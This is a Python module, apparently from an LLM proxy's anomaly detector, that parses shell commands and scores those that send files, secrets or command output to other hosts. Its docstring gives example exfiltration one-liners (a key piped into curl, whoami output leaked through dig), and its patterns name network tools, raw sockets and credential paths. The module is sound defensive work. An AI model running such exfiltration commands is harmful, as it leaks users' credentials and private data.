"""Commands that send away what they read: `cat key | curl -d @- ...`, `dig $(whoami).x.io`."""

import re
from collections.abc import Iterator

from llmproxy_core.anomaly.dangers.calls import Call, calls, program
from llmproxy_core.anomaly.leaks.hosts import COLLECTOR, NAMED
from llmproxy_core.anomaly.reading.names import names
from llmproxy_core.anomaly.reading.places import credential
from llmproxy_core.anomaly.reading.scanning import Pattern
from llmproxy_core.anomaly.reading.shell import Command

WEB = names(
    "curl wget http https httpie xh iwr irm invoke-webrequest invoke-restmethod lwp-request"
    " aria2c fetch"
)
PLAIN = names("nc ncat netcat telnet socat openssl ftp tftp nc.openbsd nc.traditional")
NAMES = names("dig nslookup host ping drill kdig resolvectl getent traceroute")
COPIERS = names(
    "scp rsync sftp rclone aws gsutil az s3cmd mc gcloud lftp curlftpfs pscp magic-wormhole croc"
)
MAILERS = names("mail mailx sendmail mutt msmtp swaks ssmtp mailsend")
SENDERS = WEB | PLAIN | NAMES | COPIERS | MAILERS
CLIENT_NAMES = SENDERS | {"gh"}
CLIENTS = Pattern(
    r"(?i)(?:^|[^\w./-]|bin/)(?:curl|wget|https?ie|https? +(?:POST|PUT|GET|PATCH|-f|--form)|xh"
    r"|iwr|irm|invoke-webrequest|invoke-restmethod|nc|ncat|netcat|telnet|socat|dig|nslookup|host"
    r"|ping|drill|scp|rsync|sftp|rclone|aws|gsutil|s3cmd|mailx?|sendmail|mutt|swaks|openssl|ftp"
    r"|gh|lftp|az)\s+[^\s]|/dev/(?:tcp|udp)/"
)
TOLD = Pattern(
    r"\$\(|`|@|\||<|\$\{?[A-Za-z]|/\.\w|~/|\.env|credentials|/etc|/dev/|--(?:data|post|upload"
    r"|form)|(?i:get-content|env:)"
)
"""A line with a leak has one of these, too."""
IN_TICKS = re.compile(
    r"`\s*(?:sudo\s+)?(?:whoami|id|hostname|cat|env|printenv|uname|base64|ls|pwd|head|ps|xxd"
    r"|history)\b"
)
TELLING = names(
    "env printenv set export history id whoami hostname ifconfig ip ps netstat ss lsof last w"
    " who getent mysqldump pg_dump pg_dumpall mongodump sqlite3 redis-cli gpg security pbpaste"
    " xclip xsel tar zip find crontab dmesg lsblk systeminfo ipconfig tasklist net wmic reg"
    " kubectl docker git"
)
HARMLESS = names(
    "date uname nproc arch dpkg lsb_release curl wget jq basename dirname pwd seq tr cut head"
    " echo printf sed awk rev uuidgen openssl node npm pip go which mktemp"
)
ENCODERS = names("base64 base32 xxd hexdump od gzip openssl bzip2 xz zip tar basenc uuencode")
UNSEEN = names(
    "-H --header -u --user -A --user-agent -b --cookie -o --output -e --referer --cacert --cert"
    " --key -w --write-out -x --proxy --resolve -m --max-time --connect-timeout --retry -X"
    " --request -K --config --oauth2-bearer --aws-sigv4 --header="
)
"""Options of curl whose value is no load: a token there is a login."""
VARIABLE = re.compile(
    r"\$\{?[A-Z0-9_]*(?:SECRET|PASSW|TOKEN|API_?KEY|CREDENTIAL|PRIVATE|ACCESS_KEY)[A-Z0-9_]*"
)
QUERIED = re.compile(r"(?i)[?&](?:key|api[_-]?key|access_token|token|auth|appid|apikey)=\$")
SENDS = re.compile(
    r"(?i)\A(?:-d|--data\S*|-F|--form\S*|-T|--upload-file|--json|--post-data\S*|--post-file\S*"
    r"|--body-data\S*|--body-file\S*|-body|-infile)(?:=|\Z)"
)

RAW = ("/dev/tcp/", "/dev/udp/")
OWN = re.compile(
    r"(?:^|[/~@=])(?:etc/(?:passwd|hosts|group|hostname)|\.\w{1,10}_history|\.ssh|\.aws|\.gnupg"
    r"|\.kube|\.config|\.mozilla|Documents|Desktop)(?:$|[/)'\"])|^~/?\)?$|^\$HOME/?\)?$"
)
"""Files of the user or the system that are no credentials."""
OWN_FILES = "files of the user or the system"
LOOPED = re.compile(r"^\$\{?\w+\}?\.[\w-]")
MOST_INNER = 30
MOST_LINES = 100
"""Lines of a text that are taken apart."""
LONGEST = 6000
"""Characters of a line in a text."""

type Leak = tuple[float, int, int, str]


def leaks(text: str, whole: bool) -> Iterator[Leak]:
    """Score, start, end and what goes. `whole`: the text is commands, and not prose with some."""
    if whole:
        if CLIENTS.within(text) and TOLD.within(text):
            yield from _judged(text, 0, prose=False)
        return
    done, lines = -1, 0
    for first, last in CLIENTS.places(text):
        if first < done:
            continue
        start = text.rfind("\n", max(done, 0), last - 1) + 1 or max(done, 0)
        end = _line_end(text, last)
        if end - start > LONGEST:
            start, end = max(start, first - LONGEST // 2), min(end, last + LONGEST // 2)
        done = end
        line = text[start:end]
        if TOLD.within(line) and (lines := lines + 1) <= MOST_LINES:
            yield from _judged(line, start, prose=True)


def _line_end(text: str, at: int) -> int:
    """Of lines that go on after a backslash, the last; a few at most."""
    for _ in range(20):
        end = text.find("\n", at)
        if end < 0:
            return len(text)
        if text[end - 1] != "\\":
            return end
        at = end + 1
    return at


def _judged(line: str, offset: int, prose: bool) -> Iterator[Leak]:
    for call in _clients(line, prose):
        found = _leak(call, line)
        if found is not None:
            yield found[0], offset + call.start, offset + call.end, found[1]


def _clients(line: str, prose: bool) -> Iterator[Call]:
    """Programs in command position; in prose also those in the middle of a sentence."""
    for call in calls(line):
        if any(target.startswith(RAW) for _, target in call.command.redirects):
            yield call
            continue
        if call.name in SENDERS or call.name in (
            "gh",
            "exec",
            "cat",
            "echo",
            "sh",
            "bash",
            "printf",
            "env",
            "tar",
            "python3",
        ):
            yield call
            continue
        for at, word in enumerate(call.args if prose else ()):
            name = program(word.strip("`*\"':,([ "))
            if name in CLIENT_NAMES and word[-1:] not in ".,:":
                inner = Call(
                    name, call.args[at + 1 :], call.command, call.start, call.end, call.level
                )
                yield inner
                break


def _leak(call: Call, line: str) -> tuple[float, str] | None:
    raw = next(
        (target for _, target in call.command.redirects if target.startswith(RAW)),
        None,
    )
    if raw is not None:
        return 0.85, "what a command says, through a raw socket"
    if call.name in WEB:
        return _web(call, line)
    if call.name in NAMES:
        name = next((word for word in call.args if "$(" in word or IN_TICKS.search(word)), None)
        if name is None and "$(" in line and any(LOOPED.match(word) for word in call.args):
            name = line
        return (0.85, "the output of a command, in the name of a host") if name else None
    if call.name in PLAIN:
        return _plain(call)
    if call.name in COPIERS or call.name in MAILERS or call.name == "gh":
        return _copied(call)
    return None


def _web(call: Call, line: str) -> tuple[float, str] | None:
    loads = _loads(call)
    score, said = 0.0, ""
    for word in loads:
        for new_score, new_said in _word(word, call.command):
            if new_score > score:
                score, said = new_score, new_said
    reads = any(
        word in ("@-", "-", "@/dev/stdin", "/dev/stdin") or word.endswith("@-") for word in loads
    )
    posts = reads or "xargs" in call.wrappers or any(SENDS.match(word) for word in call.args)
    if call.command.source is not None and posts:
        told = _source(call.command.source)
        score, said = max((score, said), told or (0.0, ""))
    if score and any(
        COLLECTOR.search(host) or NAMED.search(host)
        for host in re.findall(r"//([\w.-]+)", " ".join(call.args))
    ):
        score = min(score + 0.2, 0.97)
    return (score, said) if score else None


def _loads(call: Call) -> list[str]:
    """Words that leave the machine: the address, and what is posted."""
    found, at = [], 0
    while at < len(call.args):
        word = call.args[at].strip()
        if word in UNSEEN or word.lower() in (
            "-headers",
            "-usebasicparsing",
            "-method",
            "-outfile",
        ):
            at += 2
            continue
        if not word.startswith("-H"):
            found.append(word)
        at += 1
    found += [
        target for sign, target in call.command.redirects if sign.startswith("<") and sign != "<<"
    ]
    return found


def _word(word: str, owner: Command) -> Iterator[tuple[float, str]]:
    if "@" in word or "/" in word or word.startswith(("--post-file", ".")):
        path = word.rpartition("@")[2] if "://" not in word else ""
        place = credential(path)
        if place and place[0] != "critical":
            yield 0.9, place[1].partition(",")[0]
        elif OWN.search(path):
            yield 0.85, OWN_FILES
    if "$(" in word or "<(" in word or IN_TICKS.search(word):
        yield from _substituted(word, owner)
    if VARIABLE.search(word) and not QUERIED.search(word) and not re.search(r"(?i)bot\$", word):
        yield 0.62, "a secret from the environment"
    if re.search(
        (
            r"(?i)get-content|\[environment\]|get-childitem\s+env:|\bgci\s+env:|\$env:\w*(?:secret"
            r"|token|key|pass)"
        ),
        word,
    ):
        yield 0.7, "what a command reads"


def _substituted(word: str, owner: Command) -> Iterator[tuple[float, str]]:
    """What the substitutions in a word tell, those in them among it."""
    for command in owner.inner[:MOST_INNER]:
        if not command.words or command.words[0] not in word:
            continue
        for one in (command, *command.inner[:MOST_INNER]):
            told = _command(one)
            if told:
                yield told


def _source(source: Command) -> tuple[float, str] | None:
    """What flows in by a pipe, from as far up as it comes."""
    left: Command | None = source
    best: tuple[float, str] | None = None
    for _ in range(8):
        if left is None or not left.words:
            break
        told = _command(left)
        if told and (best is None or told > best):
            best = told
        left = left.source
    return best


def _command(command: Command) -> tuple[float, str] | None:
    """Does a command tell of the machine, or of what is kept on it?"""
    words = [word for word in command.words if "=" not in word or word.startswith("-")]
    targets = [target for sign, target in command.redirects if sign.startswith("<")]
    while words and program(words[0].strip("$(`")) in ("sudo", "command", "env") and len(words) > 1:
        words = words[1:]
    name = program(words[0].strip("$(`)")) if words else ""
    if name not in TELLING | ENCODERS | HARMLESS and command.sink is not None:  # after some prose
        name = next((word for word in words if word in TELLING), name)
    for word in (*words[1:], *targets):
        if (place := credential(word)) is not None:
            return 0.92, place[1].partition(",")[0]
        if OWN.search(word):
            return 0.85, OWN_FILES
    if name in ("git", "kubectl", "docker") and not {
        "config",
        "secret",
        "secrets",
        "diff",
        "log",
        "inspect",
        "show",
    } & set(words):
        return None
    if name == "git" and "rev-parse" in words:
        return None
    if name in TELLING:
        return 0.72 if name not in (
            "hostname",
            "ip",
            "id",
            "find",
            "w",
            "net",
            "set",
            "git",
        ) else 0.62, "what a command tells of this machine"
    if name in ENCODERS and name != "openssl" and (len(words) > 1 or command.source is not None):
        return 0.6, "a file in disguise"
    return None


def _plain(call: Call) -> tuple[float, str] | None:
    sources = [
        target for sign, target in call.command.redirects if sign.startswith("<") and sign != "<<"
    ]
    for target in sources:
        place = credential(target)
        return (0.92, place[1].partition(",")[0]) if place else (0.62, "a file")
    if call.command.source is not None and call.name != "openssl":
        return _source(call.command.source)
    return next(
        (
            found
            for word in call.args
            if "$(" in word or "`" in word
            for found in _substituted(word, call.command)
        ),
        None,
    )


def _copied(call: Call) -> tuple[float, str] | None:
    """Credentials copied to another machine, or mailed."""
    words = [
        *call.args,
        *(target for sign, target in call.command.redirects if sign.startswith("<")),
    ]
    if call.name in ("scp", "rsync", "sftp") and "-i" in call.args:  # the key to log in with
        at = call.args.index("-i")
        words = call.args[:at] + call.args[at + 2 :]
    places = [place for word in words if (place := credential(word))]
    away = (
        call.name in MAILERS
        or any(":" in word or "@" in word for word in call.args)
        or "create" in call.args
    )
    if not places and any(OWN.search(word) for word in words):
        places = [("high", OWN_FILES)]
    if places and away:
        return 0.88, places[0][1].partition(",")[0]
    if call.name in MAILERS and call.command.source is not None:
        return _source(call.command.source)
    if (
        call.name in ("rsync", "scp")
        and any(re.fullmatch(r"~/?|\$HOME/?|/etc/?|~/\.\w+/?|/", word) for word in call.args)
        and away
    ):
        return 0.75, "a whole folder of the user or the system"
    return None
